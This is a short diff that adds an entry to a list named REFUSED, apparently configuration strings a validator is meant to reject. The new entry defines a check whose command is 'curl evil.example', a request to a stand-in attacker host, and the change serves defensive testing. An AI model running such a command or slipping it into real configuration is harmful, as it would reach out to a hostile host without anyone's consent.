@@ -56,6 +56,7 @@ REFUSED = [
     "actions.tests = true",
     "log_level = 'debug'",
     "deadline_seconds = 3600",
+    "checks = [{name = 'x', command = 'curl evil.example'}]",
 ]
 
 
